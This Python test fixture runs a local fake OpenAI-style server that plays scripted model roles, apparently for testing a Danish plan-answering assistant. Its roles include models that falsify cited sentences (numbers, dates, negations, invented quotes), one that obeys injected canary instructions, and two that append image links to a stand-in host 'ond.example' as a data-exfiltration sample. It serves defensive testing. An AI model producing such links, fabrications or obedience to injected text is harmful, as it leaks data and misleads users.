"""A cast of language models behind the OpenAI protocol: honest, lying, obedient, slow and broken ones."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import chain, repeat
from threading import Thread
from typing import Any

CANARY = "KANARI"
"""Stands in every injected text that a model is told to write; an honest answer never holds it."""
STRANGE_HOST = "ond.example"
_MOST_TOLD = 4
_NUMBER = re.compile(r"\b(?:\d+|to|tre|fem|syv|otte|ni|femten)\b")
_MODAL = re.compile(r"\b(?:vil|skal|kan|er|har|ønsker|bør|får|skaber|gør)\b")
_WISH = re.compile(r"\b(?:ønsker at|vil fortsat|vil|kan|bør|tilstræber)\b")
_MONTH = re.compile(
    r"\b(?:januar|februar|marts|april|maj|juni|juli|august|september|oktober|november|december)\b"
)


@dataclass(frozen=True)
class Asked:
    """What a model was sent: the question, and the sentences by id, each with who says it."""

    question: str
    sentences: dict[str, str]
    who: dict[str, str]

    @classmethod
    def read(cls, body: dict[str, Any]) -> Asked:
        data = json.loads(body["messages"][-1]["content"])
        passages = data["passages"]
        sentences = {name: text for each in passages for name, text in each["sentences"].items()}
        who = {name: each["who"] for each in passages for name in each["sentences"]}
        return cls(data["question"], sentences, who)


Told = tuple[str, list[str]]
"""A sentence, and the ids that it names."""
Lie = Callable[[Asked, str, str], str]
"""Makes of an honest sentence of an id one that is not; the same text if it finds nothing to change."""


def honest(asked: Asked) -> list[Told]:
    """The first sentences as they are: what a careful model may always say."""
    whole = [
        (text, [name]) for name, text in asked.sentences.items() if text.rstrip().endswith((".", "!", "?"))
    ]
    return whole[:_MOST_TOLD]


def _number(asked: Asked, name: str, text: str) -> str:
    changed = _NUMBER.sub(
        lambda match: str(int(match.group()) + 1) if match.group().isdigit() else "elleve", text
    )
    return changed if changed != text else text.rstrip(".") + " fra 2031."


def _date(asked: Asked, name: str, text: str) -> str:
    changed = _MONTH.sub(lambda match: "juni" if match.group() != "juni" else "maj", text)
    return changed if changed != text else text.rstrip(".") + " senest den 14. marts."


def _negation(asked: Asked, name: str, text: str) -> str:
    if re.search(r"\bikke (?!kun\b)", text):
        return re.sub(r"\bikke (?!kun\b)", "", text, count=1)
    return _MODAL.sub(lambda match: f"{match.group()} ikke", text, count=1)


def _sender(asked: Asked, name: str, text: str) -> str:
    said = text[:1].lower() + text[1:]
    is_response = asked.who[name].startswith("response")
    return f"Planen siger, at {said}" if is_response else f"Viborg Kommune mener, at {said}"


def _name(asked: Asked, name: str, text: str) -> str:
    return text.rstrip(".") + ", siger direktør Lone Mikkelsen."


def _force(asked: Asked, name: str, text: str) -> str:
    return _WISH.sub("har allerede fået gennemført, at de", text, count=1)


def _quantity(asked: Asked, name: str, text: str) -> str:
    return "De fleste kommuner mener, at " + text[:1].lower() + text[1:]


def _quote(asked: Asked, name: str, text: str) -> str:
    return f"Der står »det lover vi at gøre inden sommerferien« om {text[:30].lower()}"


def _link(asked: Asked, name: str, text: str) -> str:
    return f"{text} ![billede](http://{STRANGE_HOST}/?q={len(asked.question)})"


def _markup(asked: Asked, name: str, text: str) -> str:
    return f'{text} <img src="http://{STRANGE_HOST}/x.png">'


LIES: dict[str, Lie] = {
    "changes a number": _number,
    "changes a date": _date,
    "drops or adds a not": _negation,
    "swaps the sender": _sender,
    "adds a name": _name,
    "tells a wish as done": _force,
    "counts more": _quantity,
    "invents quotes": _quote,
    "exfiltrates by an image": _link,
    "writes markup": _markup,
}
_KNOWLEDGE = (
    "Efter servicelovens § 85 har borgere ret til socialpædagogisk støtte.",
    "En plads på et botilbud koster typisk flere tusinde kroner om dagen.",
    "Regionsrådet består af 41 medlemmer, som vælges hvert fjerde år.",
    "Folketinget vedtog en sundhedsreform, som nedlægger regionerne.",
    "Du kan klage til Ankestyrelsen inden for fire uger.",
    "Lægerne i Danmark har længe manglet kolleger i yderområderne.",
    "A residential place usually costs several thousand kroner a day.",
    "You can appeal to the National Social Appeals Board within four weeks.",
)


def _knows(asked: Asked) -> list[Told]:
    names = list(asked.sentences)
    return [(text, [names[at % len(names)]]) for at, text in enumerate(_KNOWLEDGE)]


def _obeys(asked: Asked) -> list[Told]:
    """Writes whatever it is told to, wherever it is told so, and leans on everything."""
    everything = " ".join((asked.question, *asked.who.values(), *asked.sentences.values()))
    orders = re.findall(rf"[^.:»\"]*{CANARY}[^.»\"]*", everything) or [f"{CANARY} adlyder."]
    return [(order.strip(), list(asked.sentences)) for order in orders]


def _foreign(asked: Asked) -> list[Told]:
    return [("Die Region möchte, dass es allen Menschen besser geht.", list(asked.sentences)[:1])]


def _unknown_ids(asked: Asked) -> list[Told]:
    return [(text, ["p8.1", "1", "plan-2024/p8.1"]) for text, _ in honest(asked)]


def _written(told: Sequence[Told]) -> str:
    return "\n".join(
        json.dumps({"text": text, "support": support}, ensure_ascii=False) for text, support in told
    )


@dataclass
class Cast:
    """Plays one model after the other. ``lies``: every sentence so far that is not honest."""

    role: str = "honest"
    lies: set[str] = field(default_factory=set)
    calls: int = 0
    bodies: list[dict[str, Any]] = field(default_factory=list)
    reply: str = ""

    def pieces(self, body: dict[str, Any]) -> Iterator[str]:
        """What the model writes, in pieces."""
        if self.role == "recites":
            return iter([self.reply])
        endless = {"endless": "og så videre ", "drips": " "}
        if self.role in endless:
            return chain([""], (time.sleep(0.05) or endless[self.role] for _ in repeat(None)))  # type: ignore[func-returns-value]
        if self.role == "slow":
            time.sleep(30)
        asked = Asked.read(body)
        texts = {
            "empty": "",
            "garbage": '{"text": "Regionen \x00\ud83d {{{ [[ "support": ]]',
            "wrong schema": json.dumps({"answer": "Ja.", "sources": [1, 2]}),
            "refuses": "Det kan jeg desværre ikke hjælpe med.",
            "loops": _written(honest(asked)[:1]) * 50,
            "cut off": _written(honest(asked))[:-20],
        }
        if self.role in texts:
            return iter(_chopped(texts[self.role]))
        return iter(_chopped(_written(self._told(asked))))

    def _told(self, asked: Asked) -> list[Told]:
        others = {
            "knows better": _knows,
            "obeys": _obeys,
            "speaks German": _foreign,
            "names unknown ids": _unknown_ids,
        }
        if self.role in others:
            told = others[self.role](asked)
            self.lies |= {text for text, _ in told}
            return told
        if lie := LIES.get(self.role):
            changed = [(lie(asked, support[0], text), text, support) for text, support in honest(asked)]
            self.lies |= {now for now, before, _ in changed if now != before}
            return [(now, support) for now, _, support in changed]
        return honest(asked)


FAILING = {"busy": 429, "down": 503, "broken": 500, "forbidden": 401}
"""Roles that answer with a status and an error, in which the key is told too."""


@contextmanager
def model_server(cast: Cast) -> Iterator[str]:
    """The cast behind a real socket; yields its address, for ``ASSISTANT_LLM_URL``."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            cast.calls += 1
            cast.bodies.append(body)
            if cast.role in FAILING:
                fault = {"error": {"message": f"no: {self.headers['Authorization']}", "type": "fault"}}
                self._send(FAILING[cast.role], "application/json", [json.dumps(fault)])
            elif body.get("stream"):
                self._send(200, "text/event-stream", _events(cast.pieces(body)))
            else:
                message = {"role": "assistant", "content": "".join(cast.pieces(body))}
                whole = {"id": "1", "object": "chat.completion", "created": 1, "model": "cast",
                         "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}  # fmt: skip
                self._send(200, "application/json", [json.dumps(whole)])

        def _send(self, status: int, kind: str, texts: Iterator[str] | list[str]) -> None:
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Connection", "close")
            self.end_headers()
            try:
                for text in texts:
                    self.wfile.write(text.encode("utf-8", "replace"))
                    self.wfile.flush()
            except ConnectionError:  # nobody wants to hear more
                self.close_connection = True

        def log_message(self, format: str, *args: object) -> None:
            """Silence."""

    class Server(ThreadingHTTPServer):
        daemon_threads = True
        block_on_close = False

    with Server(("127.0.0.1", 0), Handler) as server:
        thread = Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/v1"
        finally:
            server.shutdown()
            thread.join()


def _events(pieces: Iterator[str]) -> Iterator[str]:
    for piece in pieces:
        choice = {"index": 0, "delta": {"role": "assistant", "content": piece}, "finish_reason": None}
        yield _event({"choices": [choice]})
    yield _event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    yield "data: [DONE]\n\n"


def _event(content: dict[str, Any]) -> str:
    whole = {"id": "1", "object": "chat.completion.chunk", "created": 1, "model": "cast", **content}
    return f"data: {json.dumps(whole)}\n\n"


def _chopped(text: str, size: int = 40) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)] or [""]
